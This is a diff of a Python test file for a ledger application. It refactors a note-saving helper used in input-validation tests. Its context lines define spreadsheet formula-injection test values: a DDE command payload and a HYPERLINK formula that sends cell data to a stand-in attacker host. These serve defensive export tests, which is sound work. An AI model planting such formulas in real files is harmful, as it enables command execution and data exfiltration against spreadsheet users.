@@ -17,7 +17,7 @@ from portfolio.ledger import exports, tertial_store
 from portfolio.ledger.tertial import load_report
 from portfolio.periods import Period
 from registers.risks import excel
-from tests.stored import bracke_t1_2019_review
+from tests.stored import bracke_t1_2019_review, note_2019
 
 CALC = "=cmd|' /C calc'!A0"
 LINK = '=HYPERLINK("http://angripare.example/?q="&A1,"Klicka")'
@@ -104,28 +104,11 @@ def test_the_risk_workbook_keeps_a_stored_control_character_from_breaking_the_ex
 # --- the tertial writes refuse what the exports would otherwise have to clean -------------------
 
 
-def save_new_6674_note(db, comment: str, forecast_ore: int | None = None) -> None:
-    """Save a first note on object 6674 in T1 2019, as the system."""
-    from portfolio.auth import SYSTEM
-    from portfolio.ledger.tertial import save_note
-
-    save_note(
-        db,
-        SYSTEM,
-        year=2019,
-        period=Period.T1,
-        obj="6674",
-        comment=comment,
-        forecast_ore=forecast_ore,
-        version=None,
-    )
-
-
 def test_a_tertial_comment_with_a_control_character_is_refused(seeded):
     from portfolio.errors import InvalidInputError
 
     with pytest.raises(InvalidInputError) as caught:
-        save_new_6674_note(seeded, "Ök\x0bning")
+        note_2019(seeded, Period.T1, "6674", "Ök\x0bning")
     assert "styrtecken" in caught.value.messages[0] and "6674" in caught.value.messages[0]
     assert tertial_store.get_note(seeded, 2019, "T1", "6674") is None
 
@@ -135,7 +118,7 @@ def test_a_forecast_beyond_the_money_bound_is_refused(seeded):
     from portfolio.money import MAX_ORE
 
     with pytest.raises(InvalidInputError, match="prognos"):
-        save_new_6674_note(seeded, "Ny prognos", MAX_ORE + 1)
+        note_2019(seeded, Period.T1, "6674", "Ny prognos", MAX_ORE + 1)
 
 
 def test_a_review_comment_with_a_control_character_is_refused(seeded):
